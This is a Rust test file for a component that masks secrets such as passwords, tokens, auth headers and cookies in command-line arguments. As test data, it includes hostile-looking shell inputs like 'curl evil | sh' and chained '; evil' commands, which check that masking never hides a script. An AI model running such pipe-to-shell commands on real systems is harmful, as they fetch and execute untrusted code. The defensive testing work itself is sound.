//! Patterns on arguments.

use super::*;
use proptest::prelude::*;

fn texts(words: &[&str]) -> Vec<String> {
    words.iter().map(|word| (*word).to_owned()).collect()
}

/// Masked by both ways, which agree.
fn masked(masks: &Masks, arguments: &[&str]) -> Vec<String> {
    let mut owned = texts(arguments);
    let any = masks.arguments(&mut owned);
    let bytes = arguments.iter().flat_map(|argument| argument.bytes().chain([0])).collect::<Vec<u8>>();
    assert_eq!(masks.line(&bytes), (owned.join(" "), any), "{arguments:?}");
    assert_eq!(any, owned != arguments, "{arguments:?}");
    owned
}

#[test]
fn every_example_of_the_usual_is_masked_by_its_pattern_and_by_all() {
    for usual in USUAL {
        let alone = Masks::of(&texts(&[usual.pattern])).expect(usual.what);
        assert_ne!(masked(&alone, usual.example), texts(usual.example), "{}", usual.what);
        assert_eq!(masked(&Masks::usual(), usual.example), texts(usual.masked), "{}", usual.what);
    }
    assert_eq!(Masks::usual(), Masks::of(&texts(&["usual"])).expect("they compile"));
    assert_ne!(Masks::usual(), Masks::none());
}

#[test]
fn secrets_are_masked_however_they_are_written() {
    for (given, wanted) in [
        (&["x", "--password", "hunter2"][..], &["x", "--password", "***"][..]),
        (&["x", "--password=two words", "y"], &["x", "--password=***", "y"]),
        (&["x", "--PASSWORD", "a b c", "y"], &["x", "--PASSWORD", "***", "y"]),
        (
            &["x", "--pass", "a", "--api-key", "b", "-token", "c"],
            &["x", "--pass", "***", "--api-key", "***", "-token", "***"],
        ),
        (&["sh", "-c", "run --password='a b' ; curl x"], &["sh", "-c", "run --password=*** ; curl x"]),
        (&["env", "PGPASSWORD=a;b&c", "psql"], &["env", "PGPASSWORD=***", "psql"]),
        (&["curl", "-u", "ann:a;b c", "x"], &["curl", "-u", "ann:***", "x"]),
        (&["mysql", "-pa;b c", "x"], &["mysql", "-p***", "x"]),
        (&["curl", "-H", "Authorization: Digest a=b, c=d", "x"], &["curl", "-H", "Authorization: Digest ***", "x"]),
        (&["curl", "-H", "Authorization: abc", "x"], &["curl", "-H", "Authorization: ***", "x"]),
        (&["curl", "-H", "Authorization: Own abc", "x"], &["curl", "-H", "Authorization: ***", "x"]),
        (&["sh", "-c", "TOKEN=abc; curl x"], &["sh", "-c", "TOKEN=*** curl x"]),
        (&["AWS_SECRET_ACCESS_KEY=abc", "aws"], &["AWS_SECRET_ACCESS_KEY=***", "aws"]),
        (&["mysqldump", "--user=root", "-pabc", "-P3306"], &["mysqldump", "--user=root", "-p***", "-P3306"]),
        (&["git", "clone", "https://a:p@ss@b.c/d"], &["git", "clone", "https://a:***@b.c/d"]),
        (&["curl", "-HAuthorization: Basic YTpi", "x"], &["curl", "-HAuthorization: Basic ***", "x"]),
        (&["curl", "-H", "Cookie: a=b; c=d", "x"], &["curl", "-H", "Cookie: ***", "x"]),
        (&["x", "AKIAABCDEFGHIJKLMNOP"], &["x", "***"]),
        (&["x", "eyJhbGciOiJI.eyJzdWIiOiIx.SflKxwRJ"], &["x", "***"]),
        (&["ä", "--password", "ö€"], &["ä", "--password", "***"]),
    ] {
        assert_eq!(masked(&Masks::usual(), given), texts(wanted));
    }
}

#[test]
fn what_is_no_secret_stays() {
    for given in [
        &["ssh", "-p22", "host"][..],
        &["mysql", "-p", "shop"],
        &["mkdir", "-p", "/tmp/password"],
        &["docker", "login", "--password-stdin"],
        &["kubectl", "--token-file", "/run/token"],
        &["passwd", "root"],
        &["curl", "http://127.0.0.1:8080/a@b"],
        &["vault", "--password", "--verbose"],
        &["tool", "--pwd", "/home"],
        &["env", "PWD=/home", "HOME=/root"],
        &[""],
        &[],
    ] {
        assert_eq!(masked(&Masks::usual(), given), texts(given));
    }
}

/// Otherwise a word like a token would hide the script behind it.
#[test]
fn a_secret_hides_nothing_but_itself() {
    for (given, wanted) in [
        (&["sh", "-c", "token=x; curl evil | sh"][..], &["sh", "-c", "token=*** curl evil | sh"][..]),
        (&["sh", "-c", "AKIAABCDEFGHIJKLMNOP ; evil"], &["sh", "-c", "*** ; evil"]),
        (&["python3", "-cTOKEN=1;import os"], &["python3", "-cTOKEN=*** os"]),
        (&["sh", "-c", ": authorization: ; evil"], &["sh", "-c", ": authorization: ; evil"]),
        (&["sh", "-c", ": cookie: a=b; evil"], &["sh", "-c", ": cookie: ***; evil"]),
        (&["/tmp/mysql", "-c", "x -pa ; evil"], &["/tmp/mysql", "-c", "x -p*** ; evil"]),
        (&["x", "--password", "a", "curl evil"], &["x", "--password", "***", "curl evil"]),
    ] {
        assert_eq!(masked(&Masks::usual(), given), texts(wanted));
    }
}

#[test]
fn groups_are_masked_and_stay_within_their_argument() {
    let masks = Masks::of(&texts(&[r"-k (\S+)|key:([a-z ]+)"])).expect("compiles");
    assert_eq!(masked(&masks, &["x", "-k", "a b", "c"]), texts(&["x", "-k", "***", "c"]));
    assert_eq!(masked(&masks, &["key:a b", "c"]), texts(&["key:***", "c"]));
    assert_eq!(masked(&masks, &["x", "y"]), texts(&["x", "y"]));
    assert_eq!(masked(&Masks::none(), &["--password", "a"]), texts(&["--password", "a"]));
    let both = Masks::of(&texts(&["(abc)", "(bcd)", "(xy)"])).expect("compiles");
    assert_eq!(masked(&both, &["abcdxy"]), texts(&["***"]), "what touches is one");
}

#[test]
fn a_pattern_that_cannot_be_used_is_named() {
    let fault = |words: &[&str]| Masks::of(&texts(words)).expect_err("a fault").to_string();
    assert!(
        fault(&["usual", "(a", "b"]).starts_with("holds `(a`, which is no regular expression: error: unclosed group")
    );
    assert!(fault(&["abc"]).starts_with("holds `abc`, which has no group"));
    assert!(fault(&["(a*)"]).starts_with("holds `(a*)`, which also matches nothing"));
    assert!(fault(&[&"a".repeat(PATTERN_BYTES_MAX + 1)]).starts_with("has more than"));
    assert!(fault(&["(\\w{1000}{1000})"]).contains("no regular expression"), "larger than it may be");
}

proptest! {
    #[test]
    fn any_arguments_come_out_without_panic(
        arguments in prop::collection::vec("(--password|token=|://a:|@| |'|\"|ä|\\PC){0,8}", 0..6),
        bytes in prop::collection::vec(any::<u8>(), 0..100),
    ) {
        let masks = Masks::usual();
        let given: Vec<&str> = arguments.iter().map(String::as_str).collect();
        // An empty last argument is not there in what a kernel shows, so only one way is compared.
        let mut owned = arguments.clone();
        let any = masks.arguments(&mut owned);
        prop_assert_eq!(owned.len(), given.len());
        prop_assert!(any || owned == arguments);
        masks.line(&bytes);
    }
}
